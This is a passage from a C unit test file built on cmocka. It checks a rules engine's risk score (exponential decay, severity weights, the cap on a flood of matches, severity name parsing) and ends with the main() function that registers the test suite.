        assert_int_equal(vgl_rules_state_new(&st), 0);
        assert_float_equal(vgl_rules_risk(st, t0), 0.0, 0.0);

        vgl_rules_risk_add(st, VGL_SEVERITY_HIGH, t0);
        assert_float_equal(vgl_rules_risk(st, t0), 1.0 - exp(-0.7), 1e-12);
        assert_float_equal(vgl_rules_risk(st, t0 + h), 1.0 - exp(-0.35), 1e-12);
        assert_float_equal(vgl_rules_risk(st, t0 + 2 * h), 1.0 - exp(-0.175), 1e-12);
        assert_true(vgl_rules_risk(st, t0 + 20 * h) < 1e-6);
        /* an earlier time than the last match does not grow it */
        assert_float_equal(vgl_rules_risk(st, 0), 1.0 - exp(-0.7), 1e-12);

        /* a second match adds to what is left of the first */
        vgl_rules_risk_add(st, VGL_SEVERITY_MEDIUM, t0 + h);
        assert_float_equal(vgl_rules_risk(st, t0 + h), 1.0 - exp(-0.65), 1e-12);

        /* a flood is capped, and decays like anything else */
        for (int i = 0; i < 1000; i++)
                vgl_rules_risk_add(st, VGL_SEVERITY_CRITICAL, t0 + 2 * h);
        assert_float_equal(vgl_rules_risk(st, t0 + 2 * h), 1.0 - exp(-VGL_RULES_RISK_ACC_MAX),
                           1e-12);
        assert_true(vgl_rules_risk(st, t0 + 2 * h) <= 1.0);
        assert_float_equal(vgl_rules_risk(st, t0 + 3 * h), 1.0 - exp(-5.0), 1e-12);
        assert_true(vgl_rules_risk(st, t0 + 10 * h) < 0.1);

        assert_float_equal(vgl_rules_severity_weight(VGL_SEVERITY_LOW), 0.1, 0.0);
        assert_float_equal(vgl_rules_severity_weight(VGL_SEVERITY_CRITICAL), 2.0, 0.0);
        assert_string_equal(vgl_severity_name(VGL_SEVERITY_CRITICAL), "critical");
        enum vgl_severity s;
        assert_int_equal(vgl_severity_from_name("medium", &s), 0);
        assert_int_equal(s, VGL_SEVERITY_MEDIUM);
        assert_int_equal(vgl_severity_from_name("urgent", &s), -EINVAL);
}

int main(void)
{
        const struct CMUnitTest tests[] = {
                cmocka_unit_test_setup_teardown(test_shipped_set, load_shipped, free_set),
                cmocka_unit_test_setup_teardown(test_shipped_rules, load_shipped, free_set),
                cmocka_unit_test_setup_teardown(test_sequence_shipped, load_shipped, free_set),
                cmocka_unit_test(test_sequence_three_steps),
                cmocka_unit_test_setup_teardown(test_sequence_bounded, load_shipped, free_set),
                cmocka_unit_test_setup_teardown(test_set_change, load_shipped, free_set),
                cmocka_unit_test(test_conditions),
                cmocka_unit_test(test_several_matches),
                cmocka_unit_test(test_validation_errors),
                cmocka_unit_test(test_caps),
                cmocka_unit_test_setup_teardown(test_load_dir, make_tmpdir, remove_tmpdir),
                cmocka_unit_test(test_risk_decay),
        };
        return cmocka_run_group_tests(tests, NULL, NULL);
}
